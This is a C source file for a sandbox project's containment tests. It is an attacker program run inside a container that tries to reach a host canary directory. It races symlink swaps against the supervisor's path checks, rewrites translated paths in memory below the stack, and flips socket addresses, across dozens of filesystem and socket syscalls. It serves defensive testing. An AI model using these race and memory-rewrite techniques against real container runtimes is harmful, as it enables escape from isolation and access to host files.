/* An attacker's program for brandpy's containment tests (tests/security/):
 * run as a container's entrypoint, it tries to reach a canary directory on
 * the host (its host path is given on the command line, as an attacker who
 * guessed it) through brandpy's path translation. Two attack styles:
 *
 *   swap  one thread keeps exchanging the directory "d" with a symlink "s"
 *         (renameat2 RENAME_EXCHANGE) while another makes one kind of path
 *         call below d: a check-then-use race against the supervisor, which
 *         resolves the guest path and then lets the kernel (or itself) walk
 *         the host path again.
 *         (-m idle: the thread only sleeps, for attacks on the daemon's
 *         own file work, docker cp.)
 *   mem   one thread makes the call on a guest path below "t" while a sibling
 *         keeps rewriting the memory below its stack pointer, where the
 *         supervisor writes the translated host path for the kernel to read:
 *         any such string is replaced by the canary's host path.
 *   addr  (modes sendto, sendmsg, sendmmsg) one thread sends datagrams to
 *         a socket the container bound at /w/t/dgram.sock, with the address
 *         in memory a sibling keeps flipping to the canary's dgram.sock: the
 *         kernel, if it reads the address itself, may send to the host.
 *
 * What got through is printed on stdout ("LEAK ..." for what was read; the
 * harness checks the canary's secrets there and the canary tree for
 * changes). The program stops after -t seconds or -n attempts, or at its
 * first leak.
 *
 * usage: attack -m MODE -c CANARY [-s swap|mem|addr] [-l LINK] [-p PREFIX]
 *               [-t SECONDS] [-a MIN_ATTEMPTS] [-n MAX_ATTEMPTS]
 *   -t, -a  attack for SECONDS, and on until MIN_ATTEMPTS calls were made (a
 *          slow machine), but no longer than 4 x SECONDS
 *   LINK   (swap) what s points to: host (the canary itself), root ("/"),
 *          dotdot ("../../.."), procroot (/proc/self/root),
 *          proccwd (/proc/self/cwd/../..), procfd (/proc/self/fd/N/../..)
 *   PREFIX how the victim thread names d: plain (d/...), abs (/w/d/...),
 *          procroot (/proc/self/root/w/d/...), proccwd (/proc/self/cwd/d/...),
 *          procfd (/proc/self/fd/N/d/...), dotdot (../../w/d/...)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define WORK "/w"
#define MANY 400                  /* names the destructive modes use, one per attempt */
#define BENIGN "benign\n"
#define SCAN 32768                /* bytes below the victim's stack pointer the rewriter scans */

static const char *mode, *canary, *style = "swap", *link_kind = "host", *prefix_kind = "plain";
static double seconds = 2;
static long max_attempts = 1000000, min_attempts;
static char base[4096];           /* the victim's name for the canary directory */
static int stop, leaks, wfd = -1;
static long attempts, successes, swaps, swap_calls;

static void die(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fprintf(stderr, "attack: ");
    vfprintf(stderr, fmt, ap);
    fprintf(stderr, ": %s\n", strerror(errno));
    va_end(ap);
    exit(2);
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* What the victim thread saw that the container does not hold. */
static void leak(const char *what, const char *data, size_t n)
{
    char clean[512];
    size_t k = 0;
    for (size_t i = 0; i < n && k + 1 < sizeof clean; i++)
        clean[k++] = data[i] >= 0x20 && data[i] < 0x7f ? data[i] : '.';
    clean[k] = 0;
    printf("LEAK %s %s\n", what, clean);
    fflush(stdout);
    if (++leaks >= 3)
        __atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
}

static char *path(const char *fmt, ...)
{
    static __thread char buf[8192];
    char name[4096];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(name, sizeof name, fmt, ap);
    va_end(ap);
    snprintf(buf, sizeof buf, "%s/%s", base, name);
    return buf;
}

/* -- the guest side of the canary: what the names below d (or t) hold ------ */

static void mkdirs(const char *p)
{
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s", p);
    for (char *q = tmp + 1; *q; q++)
        if (*q == '/') {
            *q = 0;
            if (mkdir(tmp, 0755) < 0 && errno != EEXIST)
                die("mkdir %s", tmp);
            *q = '/';
        }
    if (mkdir(tmp, 0755) < 0 && errno != EEXIST)
        die("mkdir %s", tmp);
}

static void put(const char *p, const char *data, mode_t mode)
{
    int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (fd < 0 || write(fd, data, strlen(data)) < 0 || close(fd) < 0)
        die("create %s", p);
    chmod(p, mode);
}

static void copy_self(const char *dest)
{
    char buf[65536];
    int in = open("/proc/self/exe", O_RDONLY), out = open(dest, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    ssize_t n;
    if (in < 0 || out < 0)
        die("copy to %s", dest);
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n)
            die("write %s", dest);
    close(in);
    close(out);
}

/* The directory that stands for the canary: "dir" itself when s points at
 * the canary, else the canary's host path mirrored below it (s points at a
 * host root). */
static void guest_tree(const char *dir, const char *mirror)
{
    char td[4096], p[8192];
    snprintf(td, sizeof td, "%s%s", dir, mirror);
    mkdirs(td);
    snprintf(p, sizeof p, "%s/many", td);
    mkdirs(p);
    snprintf(p, sizeof p, "%s/secret", td);
    put(p, BENIGN, 0644);
    snprintf(p, sizeof p, "%s/victim", td);
    put(p, BENIGN, 0644);
    setxattr(p, "user.secret", "benign", 6, 0);
    setxattr(p, "user.keep", "benign", 6, 0);
    snprintf(p, sizeof p, "%s/hlink", td);
    if (symlink("benign", p) < 0 && errno != EEXIST)
        die("symlink %s", p);
    snprintf(p, sizeof p, "%s/exe", td);
    copy_self(p);
    int files = !strcmp(mode, "unlink") || !strcmp(mode, "rename") || !strcmp(mode, "link");
    for (int i = 0; i < MANY && (files || !strcmp(mode, "rmdir")); i++) {
        snprintf(p, sizeof p, "%s/many/%c%d", td, files ? 'v' : 'r', i);
        int fd = files ? open(p, O_WRONLY | O_CREAT, 0644) : mkdir(p, 0755);
        if (fd < 0 || (files && close(fd) < 0))
            die("create %s", p);
    }
}

/* -- the victim: one call of the chosen family per attempt ---------------- */

static void check_read(const char *what, int fd)
{
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf);
    if (n > 0 && ((size_t)n != strlen(BENIGN) || memcmp(buf, BENIGN, n)))
        leak(what, buf, n);
}

static void check_stat(const char *what, long rc, const struct stat *st)
{
    char msg[128];
    if (rc == 0) {   /* "hostonly" exists only on the host */
        int n = snprintf(msg, sizeof msg, "ino=%lu size=%ld", (unsigned long)st->st_ino,
                         (long)st->st_size);
        leak(what, msg, n);
    }
}

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif

/* Raw system calls throughout: glibc would turn open into openat, stat into
 * newfstatat and so on, and each number has a handler of its own. Where a
 * family has several numbers, attempts take them in turn. */
static long opener(const char *p, int flags)
{
    if (!strncmp(mode, "openat2", 7)) {
        struct open_how how = {.flags = flags, .mode = flags & O_CREAT ? 0644 : 0};
        return syscall(SYS_openat2, AT_FDCWD, p, &how, sizeof how);
    }
    if (!strncmp(mode, "openat", 6))
        return syscall(SYS_openat, AT_FDCWD, p, flags, 0644);
    return syscall(SYS_open, p, flags, 0644);
}

static void exec_child(const char *p, long i)
{
    char *argv[] = {"exe", "-m", "exit", NULL}, *envp[] = {NULL};
    pid_t pid = vfork();
    if (pid == 0) {
        if (i & 1)
            syscall(SYS_execveat, AT_FDCWD, p, argv, envp, 0);
        else
            syscall(SYS_execve, p, argv, envp);
        _exit(127);
    }
    if (pid > 0)
        waitpid(pid, NULL, 0);
}

/* -- datagrams to a pathname: the address in msg_name or dest_addr -------- */

static struct sockaddr_un flipped;    /* addr: the address the flipper rewrites */
static int sink = -1;                 /* addr: the container's own receiving socket */

static long send_dgram(const struct sockaddr_un *sa, long i)
{
    static int fd = -1;
    static const char data[] = "datagram from the container\n";
    if (fd < 0 && (fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0)) < 0)
        die("socket");
    struct iovec iov[2] = {{(void *)data, 10}, {(void *)(data + 10), sizeof data - 11}};
    union {
        struct cmsghdr h;
        char buf[CMSG_SPACE(sizeof(int))];
    } ctl;
    struct msghdr msg = {.msg_name = (void *)sa, .msg_namelen = sizeof *sa, .msg_iov = iov,
                         .msg_iovlen = 2};
    if (i & 1) {              /* now and then with a descriptor too (SCM_RIGHTS) */
        msg.msg_control = ctl.buf;
        msg.msg_controllen = sizeof ctl.buf;
        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(c), &fd, sizeof(int));
    }
    long rc;
    if (!strcmp(mode, "sendto")) {
        rc = syscall(SYS_sendto, fd, data, sizeof data - 1, MSG_DONTWAIT, sa, sizeof *sa);
    } else if (!strcmp(mode, "sendmsg")) {
        rc = syscall(SYS_sendmsg, fd, &msg, MSG_DONTWAIT);
    } else {
        struct mmsghdr mm[2] = {{.msg_hdr = msg}, {.msg_hdr = msg}};
        rc = syscall(SYS_sendmmsg, fd, mm, 2, MSG_DONTWAIT);
        if (rc == 2 && (mm[0].msg_len != sizeof data - 1 || mm[1].msg_len != sizeof data - 1))
            die("sendmmsg: msg_len %u %u", mm[0].msg_len, mm[1].msg_len);
    }
    if (sink >= 0)            /* drain the container's own socket */
        while (recv(sink, (char[64]){0}, 64, MSG_DONTWAIT) > 0)
            ;
    return rc;
}

static void *flipper(void *arg)
{
    char guest[108], host[108];
    snprintf(guest, sizeof guest, "%s", flipped.sun_path);
    snprintf(host, sizeof host, "%s/dgram.sock", canary);
    while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
        memcpy(flipped.sun_path, host, sizeof host);
        for (int k = 0; k < 50; k++)
            __builtin_ia32_pause();
        memcpy(flipped.sun_path, guest, sizeof guest);
        for (int k = 0; k < 50; k++)
            __builtin_ia32_pause();
        __atomic_add_fetch(&swaps, 1, __ATOMIC_RELAXED);
    }
    return NULL;
}

static long attempt(long i)
{
    struct stat st;
    struct statx stx;
    char buf[512];
    long rc = -1, fd;

    if (!strcmp(mode, "open") || !strcmp(mode, "openat") || !strcmp(mode, "openat2")) {
        if ((fd = opener(path("secret"), O_RDONLY)) >= 0) {
            check_read(mode, fd);
            close(fd);
            rc = 0;
        }
    } else if (!strcmp(mode, "open-creat") || !strcmp(mode, "openat-creat") ||
               !strcmp(mode, "openat2-creat")) {
        /* by turns: create a new file, and open an existing one with O_CREAT */
        if (i & 1) {
            if ((fd = opener(path("secret"), O_RDWR | O_CREAT)) >= 0) {
                check_read(mode, fd);
                rc = close(fd);
            }
        } else if ((fd = opener(path("many/c%ld", i), O_WRONLY | O_CREAT)) >= 0) {
            rc = close(fd);
        }
    } else if (!strcmp(mode, "creat")) {
        if ((fd = syscall(SYS_creat, path("victim"), 0644)) >= 0)
            rc = close(fd);
    } else if (!strcmp(mode, "stat")) {
        check_stat(mode, rc = syscall(SYS_stat, path("hostonly"), &st), &st);
    } else if (!strcmp(mode, "lstat")) {
        check_stat(mode, rc = syscall(SYS_lstat, path("hostonly"), &st), &st);
    } else if (!strcmp(mode, "newfstatat")) {
        rc = syscall(SYS_newfstatat, AT_FDCWD, path("hostonly"), &st,
                     i & 1 ? AT_SYMLINK_NOFOLLOW : 0);
        check_stat(mode, rc, &st);
    } else if (!strcmp(mode, "statx")) {
        rc = syscall(SYS_statx, AT_FDCWD, path("hostonly"), i & 1 ? AT_SYMLINK_NOFOLLOW : 0,
                     STATX_BASIC_STATS, &stx);
        st.st_ino = stx.stx_ino;
        st.st_size = stx.stx_size;
        check_stat(mode, rc, &st);
    } else if (!strcmp(mode, "access") || !strcmp(mode, "faccessat2")) {
        if (!strcmp(mode, "faccessat2"))
            rc = syscall(SYS_faccessat2, AT_FDCWD, path("hostonly"), F_OK,
                         i & 1 ? AT_SYMLINK_NOFOLLOW : 0);
        else
            rc = i & 1 ? syscall(SYS_faccessat, AT_FDCWD, path("hostonly"), F_OK)
                       : syscall(SYS_access, path("hostonly"), F_OK);
        if (rc == 0)      /* only the host's canary has it */
            leak(mode, "hostonly exists", 15);
    } else if (!strcmp(mode, "readlink")) {
        long n = i & 1 ? syscall(SYS_readlinkat, AT_FDCWD, path("hlink"), buf, sizeof buf)
                       : syscall(SYS_readlink, path("hlink"), buf, sizeof buf);
        if (n > 0 && (n != 6 || memcmp(buf, "benign", 6)))
            leak(mode, buf, n);
        rc = n;
    } else if (!strcmp(mode, "chdir")) {
        /* into d (now and then afresh), then relative calls: the directory
         * we stand in keeps changing its name between d and s */
        static int inside;
        if (!(i & 63) && inside) {
            if (chdir(WORK) < 0)
                die("chdir back");
            inside = 0;
        }
        if (!inside && syscall(SYS_chdir, path("")) == 0)
            inside = 1;
        if ((fd = syscall(SYS_open, "secret", O_RDONLY)) >= 0) {
            check_read(mode, fd);
            close(fd);
        }
        check_stat("chdir-stat", rc = syscall(SYS_stat, "hostonly", &st), &st);
    } else if (!strcmp(mode, "mkdir")) {
        rc = i & 1 ? syscall(SYS_mkdirat, AT_FDCWD, path("many/m%ld", i), 0755)
                   : syscall(SYS_mkdir, path("many/m%ld", i), 0755);
    } else if (!strcmp(mode, "mknod")) {
        rc = i & 1 ? syscall(SYS_mknodat, AT_FDCWD, path("many/f%ld", i), S_IFIFO | 0644, 0)
                   : syscall(SYS_mknod, path("many/f%ld", i), S_IFIFO | 0644, 0);
    } else if (!strcmp(mode, "unlink")) {
        rc = i & 1 ? syscall(SYS_unlinkat, AT_FDCWD, path("many/v%ld", i), 0)
                   : syscall(SYS_unlink, path("many/v%ld", i));
    } else if (!strcmp(mode, "rmdir")) {
        rc = i & 1 ? syscall(SYS_unlinkat, AT_FDCWD, path("many/r%ld", i), AT_REMOVEDIR)
                   : syscall(SYS_rmdir, path("many/r%ld", i));
    } else if (!strcmp(mode, "rename") || !strcmp(mode, "link")) {
        char from[8192];
        snprintf(from, sizeof from, "%s", path("many/v%ld", i));
        const char *to = path("many/n%ld", i);
        if (!strcmp(mode, "link"))
            rc = i & 1 ? syscall(SYS_linkat, AT_FDCWD, from, AT_FDCWD, to, 0)
                       : syscall(SYS_link, from, to);
        else
            rc = i % 3 == 0 ? syscall(SYS_rename, from, to)
               : i % 3 == 1 ? syscall(SYS_renameat, AT_FDCWD, from, AT_FDCWD, to)
                            : syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, to, 0);
    } else if (!strcmp(mode, "symlink")) {
        rc = i & 1 ? syscall(SYS_symlinkat, "pwned", AT_FDCWD, path("many/y%ld", i))
                   : syscall(SYS_symlink, "pwned", path("many/y%ld", i));
    } else if (!strcmp(mode, "chmod")) {
        int m = i & 1 ? 0604 : 0640;
        rc = i % 3 == 0 ? syscall(SYS_chmod, path("victim"), m)
           : i % 3 == 1 ? syscall(SYS_fchmodat, AT_FDCWD, path("victim"), m)
                        : syscall(SYS_fchmodat2, AT_FDCWD, path("victim"), m, 0);
    } else if (!strcmp(mode, "chown")) {
        rc = i % 3 == 0 ? syscall(SYS_chown, path("victim"), 1234, 1234)
           : i % 3 == 1 ? syscall(SYS_lchown, path("victim"), 1234, 1234)
                        : syscall(SYS_fchownat, AT_FDCWD, path("victim"), 1234, 1234, 0);
    } else if (!strcmp(mode, "utimes")) {
        struct timeval tv[2] = {{1000000, 0}, {1000000, 0}};
        struct timespec ts[2] = {{1000000, 0}, {1000000, 0}};
        long ut[2] = {1000000, 1000000};     /* struct utimbuf */
        rc = i % 4 == 0 ? syscall(SYS_utimes, path("victim"), tv)
           : i % 4 == 1 ? syscall(SYS_utimensat, AT_FDCWD, path("victim"), ts, 0)
           : i % 4 == 2 ? syscall(SYS_utime, path("victim"), ut)
                        : syscall(SYS_futimesat, AT_FDCWD, path("victim"), tv);
    } else if (!strcmp(mode, "truncate")) {
        rc = syscall(SYS_truncate, path("victim"), 3);
    } else if (!strcmp(mode, "setxattr")) {
        rc = syscall(i & 1 ? SYS_lsetxattr : SYS_setxattr, path("victim"), "user.pwned", "1", 1, 0);
    } else if (!strcmp(mode, "getxattr")) {
        long n = syscall(i & 1 ? SYS_lgetxattr : SYS_getxattr, path("victim"), "user.secret", buf,
                         sizeof buf);
        if (n > 0 && (n != 6 || memcmp(buf, "benign", 6)))
            leak(mode, buf, n);
        rc = n;
    } else if (!strcmp(mode, "listxattr")) {
        long n = syscall(i & 1 ? SYS_llistxattr : SYS_listxattr, path("victim"), buf, sizeof buf);
        for (long k = 0; k < n; k += strlen(buf + k) + 1)
            if (strcmp(buf + k, "user.secret") && strcmp(buf + k, "user.keep") &&
                strncmp(buf + k, "user.containers.", 16))
                leak(mode, buf + k, strlen(buf + k));
        rc = n;
    } else if (!strcmp(mode, "removexattr")) {
        rc = syscall(i & 1 ? SYS_lremovexattr : SYS_removexattr, path("victim"), "user.keep");
    } else if (!strcmp(mode, "execve")) {
        exec_child(path("exe"), i);
        rc = 0;
    } else if (!strcmp(mode, "bind") || !strcmp(mode, "connect")) {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        int bind_ = !strcmp(mode, "bind");
        snprintf(sa.sun_path, sizeof sa.sun_path, "%s", bind_ ? path("many/k%ld", i)
                                                              : path("listen.sock"));
        if ((fd = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
            die("socket");
        rc = syscall(bind_ ? SYS_bind : SYS_connect, fd, &sa, sizeof sa);
        if (rc == 0 && !bind_) {
            (void)!write(fd, "hello from the container\n", 25);
            leak(mode, "connected to the host's socket", 30);
        }
        close(fd);
    } else if (!strcmp(mode, "sendto") || !strcmp(mode, "sendmsg") || !strcmp(mode, "sendmmsg")) {
        if (!strcmp(style, "addr"))
            return send_dgram(&flipped, i);
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path("dgram.sock"));
        if ((rc = send_dgram(&sa, i)) >= 0)   /* only the host's canary has it */
            leak(mode, "sent to the host's socket", 25);
    } else if (!strcmp(mode, "idle")) {
        usleep(1000);             /* only swap: someone else (docker cp) does the calls */
        rc = 0;
    } else {
        fprintf(stderr, "attack: unknown mode %s\n", mode);
        exit(2);
    }
    return rc;
}

static int destructive(void)
{
    static const char *const names[] = {"unlink", "rmdir", "rename", "link", NULL};
    for (int i = 0; names[i]; i++)
        if (!strcmp(mode, names[i]))
            return 1;
    return 0;
}

/* -- mem: rewrite what the supervisor wrote below the victim's stack ------- */

static volatile unsigned long victim_sp;
static int in_call;
static unsigned long epoch;

static void rewrite_below(unsigned char *lo, unsigned char *hi)
{
    char host[4096];
    const char *needle = WORK "/t/";
    size_t nl = strlen(needle);
    unsigned char *p = lo;
    while ((p = memmem(p, hi - p, needle, nl)) != NULL) {
        unsigned char *start = p, *end = p + nl;
        while (start > lo && start[-1] >= 0x20 && start[-1] < 0x7f)
            start--;
        while (end < hi && *end)
            end++;
        if (*start == '/' && end < hi) {
            int n = snprintf(host, sizeof host, "%s/%.*s", canary, (int)(end - p - nl), p + nl);
            if (n <= end - start)
                memcpy(start, host, n + 1);
        }
        p += nl;
    }
}

static void *rewriter(void *arg)
{
    while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
        if (__atomic_load_n(&in_call, __ATOMIC_ACQUIRE)) {
            unsigned char *sp = (unsigned char *)victim_sp;
            rewrite_below(sp - SCAN, sp - 64);
        }
        __atomic_add_fetch(&epoch, 1, __ATOMIC_RELEASE);
    }
    return NULL;
}

static long guarded_attempt(long i)
{
    unsigned long sp;
    __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
    /* clear what earlier calls left there, so the rewriter finds only this one */
    memset((char *)sp - SCAN, 0, SCAN - 512);
    victim_sp = sp;
    __atomic_store_n(&in_call, 1, __ATOMIC_RELEASE);
    long rc = attempt(i);
    __atomic_store_n(&in_call, 0, __ATOMIC_RELEASE);
    /* wait for a full rewriter round that saw in_call == 0 */
    unsigned long e = __atomic_load_n(&epoch, __ATOMIC_ACQUIRE);
    while (__atomic_load_n(&epoch, __ATOMIC_ACQUIRE) < e + 2 &&
           !__atomic_load_n(&stop, __ATOMIC_RELAXED))
        ;
    return rc;
}

/* -- swap: exchange d and s as fast as the supervisor lets us -------------- */

static void *swapper(void *arg)
{
    while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
        if (syscall(SYS_renameat2, AT_FDCWD, WORK "/d", AT_FDCWD, WORK "/s", RENAME_EXCHANGE) == 0)
            __atomic_add_fetch(&swaps, 1, __ATOMIC_RELAXED);
        __atomic_add_fetch(&swap_calls, 1, __ATOMIC_RELEASE);
    }
    return NULL;
}

static void link_target(char *out, size_t n)
{
    char up[256] = "";
    for (int i = 0; i < 24; i++)
        strcat(up, "/..");
    if (!strcmp(link_kind, "host"))
        snprintf(out, n, "%s", canary);
    else if (!strcmp(link_kind, "root"))
        snprintf(out, n, "/");
    else if (!strcmp(link_kind, "dotdot"))
        snprintf(out, n, "%s", up + 1);
    else if (!strcmp(link_kind, "procroot"))
        snprintf(out, n, "/proc/self/root");
    else if (!strcmp(link_kind, "proccwd"))
        snprintf(out, n, "/proc/self/cwd%s", up);
    else if (!strcmp(link_kind, "procfd"))
        snprintf(out, n, "/proc/self/fd/%d%s", wfd, up);
    else {
        fprintf(stderr, "attack: unknown link %s\n", link_kind);
        exit(2);
    }
}

static void prefix(char *out, size_t n, const char *dir)
{
    if (!strcmp(prefix_kind, "plain"))
        snprintf(out, n, "%s", dir);
    else if (!strcmp(prefix_kind, "abs"))
        snprintf(out, n, WORK "/%s", dir);
    else if (!strcmp(prefix_kind, "procroot"))
        snprintf(out, n, "/proc/self/root" WORK "/%s", dir);
    else if (!strcmp(prefix_kind, "proccwd"))
        snprintf(out, n, "/proc/self/cwd/%s", dir);
    else if (!strcmp(prefix_kind, "procfd"))
        snprintf(out, n, "/proc/self/fd/%d/%s", wfd, dir);
    else if (!strcmp(prefix_kind, "dotdot"))
        snprintf(out, n, "../../../..%s/%s", WORK, dir);
    else {
        fprintf(stderr, "attack: unknown prefix %s\n", prefix_kind);
        exit(2);
    }
}

int main(int argc, char **argv)
{
    int opt;
    while ((opt = getopt(argc, argv, "m:c:s:l:p:t:a:n:")) != -1) {
        switch (opt) {
        case 'm': mode = optarg; break;
        case 'c': canary = optarg; break;
        case 's': style = optarg; break;
        case 'l': link_kind = optarg; break;
        case 'p': prefix_kind = optarg; break;
        case 't': seconds = atof(optarg); break;
        case 'a': min_attempts = atol(optarg); break;
        case 'n': max_attempts = atol(optarg); break;
        default: return 2;
        }
    }
    if (mode && !strcmp(mode, "exit"))
        return 0;                 /* the guest's own "exe": nothing to do */
    if (!mode || !canary) {
        fprintf(stderr, "usage: attack -m MODE -c CANARY [-s swap|mem|addr] [-l LINK] [-p PREFIX] "
                        "[-t SECONDS] [-a MIN_ATTEMPTS] [-n MAX_ATTEMPTS]\n");
        return 2;
    }
    int swap = !strcmp(style, "swap"), addr = !strcmp(style, "addr");
    if (!swap && !addr && strcmp(style, "mem")) {
        fprintf(stderr, "attack: unknown style %s\n", style);
        return 2;
    }
    mkdirs(WORK);
    if (chdir(WORK) < 0)
        die("chdir " WORK);
    if ((wfd = open(WORK, O_PATH | O_DIRECTORY)) < 0)
        die("open " WORK);
    const char *dir = swap ? "d" : "t";
    int mirror = swap && strcmp(link_kind, "host");
    char top[4096], target[4096];
    snprintf(top, sizeof top, WORK "/%s", dir);
    guest_tree(top, mirror ? canary : "");
    prefix(top, sizeof top, dir);
    snprintf(base, sizeof base, "%s%s", top, mirror ? canary : "");
    if (destructive() && max_attempts > MANY)
        max_attempts = MANY;

    pthread_t other;
    if (swap) {
        link_target(target, sizeof target);
        unlink("s");
        if (symlink(target, "s") < 0)
            die("symlink s -> %s", target);
        pthread_create(&other, NULL, swapper, NULL);
    } else if (addr) {
        flipped.sun_family = AF_UNIX;
        snprintf(flipped.sun_path, sizeof flipped.sun_path, "%s", path("dgram.sock"));
        unlink(flipped.sun_path);
        if ((sink = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0)) < 0 ||
            bind(sink, (struct sockaddr *)&flipped, sizeof flipped) < 0)
            die("bind %s", flipped.sun_path);
        pthread_create(&other, NULL, flipper, NULL);
    } else {
        pthread_create(&other, NULL, rewriter, NULL);
    }
    double start = now(), end = start + seconds, cap = start + 4 * seconds;
    long i;
    for (i = 0; i < max_attempts && !__atomic_load_n(&stop, __ATOMIC_RELAXED); i++) {
        long calls = __atomic_load_n(&swap_calls, __ATOMIC_ACQUIRE);
        if ((swap || addr ? attempt(i) : guarded_attempt(i)) >= 0)
            successes++;
        /* The supervisor serves one stop at a time and may keep serving this
         * thread: let the swapper get a call in, so that its next exchange
         * overlaps our next call. */
        for (int k = 0; swap && k < 1000000 && __atomic_load_n(&swap_calls, __ATOMIC_ACQUIRE) == calls;
             k++)
            __builtin_ia32_pause();
        attempts++;
        if (!(i & 15) && now() > end && (i >= min_attempts || now() > cap))
            break;
    }
    __atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
    pthread_join(other, NULL);
    fprintf(stderr, "attack: mode=%s style=%s link=%s prefix=%s attempts=%ld ok=%ld swaps=%ld "
                    "leaks=%d\n", mode, style, link_kind, prefix_kind, attempts, successes, swaps,
            leaks);
    return 0;
}
